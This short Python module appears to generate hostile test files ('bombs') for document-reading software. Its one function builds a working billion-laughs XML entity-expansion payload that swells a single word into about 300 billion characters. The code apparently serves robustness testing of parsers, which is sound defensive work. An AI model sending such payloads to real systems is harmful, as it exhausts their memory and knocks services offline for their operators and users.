"""A bomb: a file that costs its reader far more than its sender."""

from collections.abc import Iterator
from typing import NamedTuple, TypeAlias

MEGA = 1 << 20
DEEP = 100_000


class Bomb(NamedTuple):
    """A file.

    Attributes:
        name: What it is, and the ending of its name.
        readers: The publishers that would read it.
        data: What is in it.
    """

    name: str
    readers: tuple[str, ...]
    data: bytes


Bombs: TypeAlias = Iterator[Bomb]


def laughs(root: str) -> bytes:
    """Return XML whose one word becomes 300 billion ("billion laughs")."""
    entities = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)]
    declared = f'<!DOCTYPE x [<!ENTITY l0 "lol">{"".join(entities)}]>'
    return f"<?xml version='1.0'?>{declared}<{root}>&l11;</{root}>".encode()
